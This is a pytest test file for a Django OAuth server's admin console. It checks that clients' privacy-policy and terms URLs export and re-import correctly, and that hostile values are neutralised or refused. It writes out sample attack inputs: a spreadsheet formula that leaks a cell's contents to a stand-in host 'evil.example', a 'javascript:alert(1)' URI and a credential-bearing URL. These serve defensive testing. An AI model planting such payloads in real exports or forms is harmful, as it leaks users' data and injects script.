"""A client's privacy policy and terms of service (policy_uri, tos_uri) in the console: the
admin's client form, the export (spreadsheet-neutral, like every column) and its re-import."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from server.models import Client
from tests.console.operator.test_import_export import confirm, export, preview
from tests.security.test_client_uris import admin_form

pytestmark = pytest.mark.django_db

POLICY = "https://app.example.com/privacy"
TERMS = "https://app.example.com/terms"
PAGES = ("policy_uri", "tos_uri")


def test_export_then_reimport_keeps_them(ops, make_client):
    original, _ = make_client("Round trip", policy_uri=POLICY, tos_uri=TERMS)
    exported = export(ops, "csv", extra=PAGES)
    header = exported.decode("utf-8-sig").splitlines()[0].split(",")
    assert {"policy_uri", "tos_uri"} <= set(header)
    Client.objects.all().delete()

    response = preview(ops, SimpleUploadedFile("clients.csv", exported, content_type="text/csv"))
    assert not response.context["result"].has_validation_errors(), response.context["result"].invalid_rows
    confirm(ops, response)

    again = Client.objects.get(client_id=original.client_id)
    assert (again.policy_uri, again.tos_uri) == (POLICY, TERMS)


@pytest.mark.parametrize("field", PAGES)
def test_a_stored_formula_is_exported_as_text(ops, make_client, field):
    """A row written around the policy (before it, or by hand): the cell is shown, never run."""
    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"Read")'
    client, _ = make_client("Old row")
    Client.objects.filter(pk=client.pk).update(**{field: formula})
    csv_text = export(ops, "csv", extra=PAGES).decode("utf-8-sig")
    assert "'" + formula.replace('"', '""') in csv_text
    sheet = openpyxl.load_workbook(io.BytesIO(export(ops, "xlsx", extra=PAGES))).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index(field) + 1)
    assert cell.data_type != "f" and cell.value == "'" + formula


@pytest.mark.parametrize("field", PAGES)
def test_an_import_refuses_a_hostile_value_naming_the_column(ops, field):
    rows = f"client_id,name,client_type,redirect_uris,grant_types,scope,{field}\r\n"
    rows += "imp-1,Imported,confidential,https://a.example.com/cb,authorization_code,profile,"
    rows += "https://u:p@a.example.com/\r\n"
    response = preview(ops, SimpleUploadedFile("c.csv", rows.encode(), content_type="text/csv"))
    result = response.context["result"]
    assert result.has_validation_errors()
    assert field in result.invalid_rows[0].field_specific_errors
    assert not Client.objects.exists()


def test_the_change_form_has_them_and_refuses_a_hostile_value_next_to_the_field(ops, make_client):
    client, _ = make_client("Admin app", policy_uri=POLICY)
    url = reverse("admin:server_client_change", args=[client.pk])
    page = ops.get(url)
    form = page.context["adminform"].form
    assert set(PAGES) <= set(form.fields) and form.initial["policy_uri"] == POLICY
    data = admin_form(redirect_uris="https://app.example.com/callback", policy_uri=POLICY)
    data.update({f"secrets-{count}_FORMS": "0" for count in ("TOTAL", "INITIAL", "MIN_NUM", "MAX_NUM")})
    for name in ("client_type", "owner"):
        data.pop(name)
    data["tos_uri"] = "javascript:alert(1)"
    refused = ops.post(url, data)
    assert refused.status_code == 200
    assert "tos_uri" in refused.context["adminform"].form.errors
    client.refresh_from_db()
    assert client.tos_uri == ""
    data["tos_uri"] = TERMS
    saved = ops.post(url, data)
    assert saved.status_code == 302, saved.context["adminform"].form.errors if saved.context else saved
    client.refresh_from_db()
    assert (client.policy_uri, client.tos_uri) == (POLICY, TERMS)
